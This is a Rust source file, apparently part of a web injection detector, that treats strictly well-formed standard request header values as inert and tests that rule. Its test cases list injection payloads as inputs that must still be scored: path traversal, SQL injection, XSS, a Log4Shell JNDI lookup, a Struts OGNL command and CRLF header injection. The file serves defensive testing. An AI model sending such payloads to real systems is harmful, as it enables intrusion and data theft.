//! Standard request headers whose well-formed values cannot carry an injection.
//!
//! Every request header is scored (`inspect_other_headers`), and a current SDK sends several
//! whose values are never plain words: `Accept: application/json`, `If-None-Match: W/"5f3c"`,
//! `Prefer: return=minimal`, `Accept-Language: en-US,en;q=0.9`. Their grammars (RFC 9110
//! media ranges, entity tags and language ranges, RFC 7240 preferences, RFC 9111 cache
//! directives) leave no room for a payload when the value keeps to a strict subset of them:
//! tokens of letters, digits and `- . _ +` (`*` where a wildcard is allowed), an entity tag's
//! opaque part of base64 and hex characters, parameters `name=token` whose name starts with a
//! letter. Anything a payload needs (a quote inside a token, a bracket, `<`, `$`, `%`, `\`, `'`,
//! a space inside a token, `..`, `//`) falls outside and the value is scored as usual. With
//! `skip_inert_values` (on by default) such a value is left out like an inert one
//! ([`super::is_inert`]); the model still learns from every value in training.

/// Longest header value read by these grammars, in bytes.
const MAX_BYTES: usize = 512;
/// Most list elements read.
const MAX_ELEMENTS: usize = 32;
/// Longest opaque part of an entity tag read.
const MAX_OPAQUE: usize = 128;

/// Whether `raw`, the value of request header `name` (lower-case), is a well-formed value of
/// one of the headers above in the strict subset of its grammar (module documentation).
pub fn header_is_inert(name: &str, raw: &str) -> bool {
    // Each list element is a head checked by the header's grammar, then `;` parameters where
    // the grammar has them (an entity tag has none).
    let (head, takes_params): (fn(&str) -> bool, bool) = match name {
        "accept" | "content-type" => (media_range, true),
        "if-none-match" | "if-match" => (entity_tag, false),
        "accept-language" | "content-language" => (language_range, true),
        "prefer" | "cache-control" | "pragma" => (directive, true),
        _ => return false,
    };
    if raw.is_empty() || raw.len() > MAX_BYTES {
        return false;
    }
    let mut n = 0;
    for item in raw.split(',') {
        n += 1;
        let item = item.trim_matches(is_ows);
        if n > MAX_ELEMENTS || item.is_empty() {
            return false;
        }
        let mut parts = item.split(';');
        let first = parts.next().unwrap_or_default().trim_end_matches(is_ows);
        let rest_ok = if takes_params {
            parts.all(param)
        } else {
            parts.next().is_none()
        };
        if !head(first) || !rest_ok {
            return false;
        }
    }
    true
}

fn is_ows(c: char) -> bool {
    c == ' ' || c == '\t'
}

/// `a-z A-Z 0-9 - . _ +`, at least one byte, no `..`.
fn token(s: &str) -> bool {
    !s.is_empty()
        && !s.contains("..")
        && s.bytes()
            .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'-' | b'.' | b'_' | b'+'))
}

/// `token=token` or `token="token"`: the name and the value without its quotes.
fn assignment(s: &str) -> Option<(&str, &str)> {
    let (k, v) = s.split_once('=')?;
    let v = v
        .strip_prefix('"')
        .and_then(|v| v.strip_suffix('"'))
        .unwrap_or(v);
    (token(k) && token(v)).then_some((k, v))
}

/// A parameter after `;`: an [`assignment`] whose name starts with a letter.
fn param(p: &str) -> bool {
    assignment(p.trim_matches(is_ows))
        .is_some_and(|(k, _)| k.starts_with(|c: char| c.is_ascii_alphabetic()))
}

/// `type/subtype` (`*/*`, `text/*`).
fn media_range(head: &str) -> bool {
    let Some((t, sub)) = head.split_once('/') else {
        return false;
    };
    let wild_or_token = |s: &str| s == "*" || token(s);
    wild_or_token(t) && wild_or_token(sub) && (t != "*" || sub == "*")
}

/// `*`, `"opaque"` or `W/"opaque"`, the opaque part of `A-Z a-z 0-9 - _ . : + / =`, at most
/// 128 bytes, with no `..`, `//` or `:/` and no keyword of any class (the one free-form part
/// of these grammars is held to what [`super::is_inert`] asks of a plain value).
fn entity_tag(head: &str) -> bool {
    if head == "*" {
        return true;
    }
    let quoted = head.strip_prefix("W/").unwrap_or(head);
    let Some(opaque) = quoted.strip_prefix('"').and_then(|q| q.strip_suffix('"')) else {
        return false;
    };
    let ok = opaque.len() <= MAX_OPAQUE
        && !opaque.contains("..")
        && !opaque.contains("//")
        && !opaque.contains(":/")
        && opaque.bytes().all(|b| {
            b.is_ascii_alphanumeric() || matches!(b, b'-' | b'_' | b'.' | b':' | b'+' | b'/' | b'=')
        });
    if !ok {
        return false;
    }
    // ASCII by now: lower-cased on the stack, no allocation on the request path.
    let mut lower = [0u8; MAX_OPAQUE];
    let lower = &mut lower[..opaque.len()];
    lower.copy_from_slice(opaque.as_bytes());
    lower.make_ascii_lowercase();
    std::str::from_utf8(lower)
        .is_ok_and(|l| super::keywords::family_hits(l).iter().all(|&n| n == 0))
}

/// `*` or `en`, `en-US`, `zh-Hant-TW` (subtags of 1-8 letters or digits).
fn language_range(head: &str) -> bool {
    head == "*"
        || head
            .split('-')
            .all(|t| (1..=8).contains(&t.len()) && t.bytes().all(|b| b.is_ascii_alphanumeric()))
}

/// `token` or `token=token` (`no-cache`, `max-age=0`, `return=minimal`, `wait=10`).
fn directive(head: &str) -> bool {
    token(head) || assignment(head).is_some()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_clients_send_is_inert() {
        for (name, raw) in [
            ("accept", "application/json"),
            ("accept", "*/*"),
            (
                "accept",
                "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8",
            ),
            ("accept", "application/vnd.github+json"),
            ("accept", "application/json, text/plain, */*"),
            ("content-type", "application/json; charset=utf-8"),
            ("content-type", "application/x-www-form-urlencoded"),
            (
                "content-type",
                "multipart/form-data; boundary=----WebKitFormBoundary7MA4YWxkTrZu0gW",
            ),
            ("content-type", "text/plain;charset=\"UTF-8\""),
            ("if-none-match", "W/\"5f3c-1a2b3c4d\""),
            ("if-none-match", "\"33a64df551425fcc55e4d42a148795d9f25f89d4\""),
            ("if-none-match", "\"xyzzy\", \"r2d2xxxx\", W/\"c3piozzzz\""),
            ("if-match", "*"),
            ("accept-language", "en-US,en;q=0.9"),
            ("accept-language", "de-CH, fr;q=0.8, *;q=0.5"),
            ("accept-language", "zh-Hant-TW"),
            ("prefer", "return=minimal"),
            ("prefer", "respond-async, wait=10"),
            ("prefer", "handling=lenient; foo=\"bar\""),
            ("cache-control", "no-cache"),
            ("cache-control", "max-age=0, must-revalidate"),
            ("pragma", "no-cache"),
        ] {
            assert!(header_is_inert(name, raw), "{name}: {raw}");
        }
    }

    #[test]
    fn payloads_and_other_headers_are_scored() {
        for (name, raw) in [
            // outside every grammar: quotes, brackets, operators, encodings, traversal
            ("accept", "../../../../etc/passwd"),
            ("accept", "application/json' OR '1'='1"),
            ("accept", "text/html<script>alert(1)</script>"),
            ("accept", "${jndi:ldap://203.0.113.9/a}"),
            ("accept", "application/json;q=1 union select 1"),
            ("accept", "a/b; 1=1"),
            ("accept", "*/json"),
            ("content-type", "%{(#_='multipart/form-data').(#cmd='id')}"),
            ("content-type", "application/json; charset=utf-8'"),
            ("if-none-match", "\"$(id)\""),
            ("if-none-match", "W/\"../../etc/passwd\""),
            ("if-none-match", "\"file:/etc/passwd\""),
            ("if-none-match", "\"/etc/passwd\""),
            ("if-none-match", "\"1:union:select:password:from:users\""),
            ("if-none-match", "\"x\" or 1=1"),
            ("if-none-match", "abc"),
            ("accept-language", "en-US;q=0.9' AND SLEEP(5)--"),
            ("accept-language", "en_US"),
            ("accept-language", "{{7*7}}"),
            ("prefer", "return=minimal; x=`id`"),
            ("prefer", "return=<img src=x onerror=alert(1)>"),
            ("cache-control", "no-cache\r\nSet-Cookie: a=b"),
            ("cache-control", "max-age=0;;"),
            // empty, too long, and headers without a grammar here
            ("accept", ""),
            ("accept", &"a/b,".repeat(200)),
            ("x-client-version", "web/4.12.3"),
            ("user-agent", "application/json"),
        ] {
            assert!(!header_is_inert(name, raw), "{name}: {raw}");
        }
    }
}
